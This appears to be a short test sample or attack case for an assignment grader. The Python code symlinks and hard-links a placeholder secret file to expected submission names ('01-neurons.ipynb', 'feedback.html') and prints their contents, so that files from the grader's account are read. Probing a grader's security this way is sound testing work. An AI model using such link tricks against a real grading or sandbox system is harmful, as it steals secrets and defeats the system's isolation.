"""
what = "puts links to a file of the grader's account where files are collected, and reads through them"
goal = "secret"
together = true
"""

# %%
import os

os.symlink({SECRET_FILE}, "01-neurons.ipynb")
print(open("01-neurons.ipynb").read())
try:
    os.link({SECRET_FILE}, "feedback.html")
    print(open("feedback.html").read())
except OSError as error:
    print(error)
